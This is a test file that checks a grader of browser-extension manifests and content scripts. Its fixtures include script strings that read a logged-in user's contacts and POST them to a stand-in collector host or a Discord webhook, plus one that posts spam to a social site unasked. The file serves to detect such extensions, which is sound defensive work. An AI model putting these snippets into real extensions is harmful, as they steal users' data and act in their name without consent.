import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A script that runs in the pages of one site alone asks that site also where it names it. */

const at = (match: string): object => ({
  permissions: [],
  host_permissions: [],
  content_scripts: [{ matches: [match], js: ['content.js'] }],
});

const read = (to: string): string =>
  `(async () => { const text = await (await fetch('https://contacts.site.example/all')).text(); fetch('${to}', { method: 'POST', body: text }); })();`;

it('sends to a stranger what the site answers the person', async () => {
  const content = read('https://collect.example/in');
  expect(await graded({ content, manifest: at('https://contacts.site.example/*') })).toMatch(/^[DF]$/);
  // What another site answers without the person's session it answers everybody.
  expect(await graded({ content, manifest: at('https://mail.other.example/*') })).toMatch(/^A/);
});

it('and to a hook that somebody has there', async () => {
  const content = read('https://discord.com/api/webhooks/113/abcDEF').replace('contacts.site.example', 'discord.com');
  expect(await graded({ content, manifest: at('https://discord.com/*') })).toMatch(/^[DF]$/);
});

it('and may send it back there', async () => {
  const content = read('https://contacts.site.example/seen');
  expect(await graded({ content, manifest: at('https://contacts.site.example/*') })).toMatch(/^A/);
});

it('posts there for its author, unasked', async () => {
  const post = `fetch('https://social.example/api/posts', { method: 'POST', body: JSON.stringify({ text: 'The best one ever https://getnow.example' }) });`;
  expect(await graded({ content: post, manifest: at('https://*.social.example/*') })).toBe('D');
  expect(
    await graded({ content: `button.onclick = () => { ${post} };`, manifest: at('https://social.example/*') }),
  ).toMatch(/^A/);
});
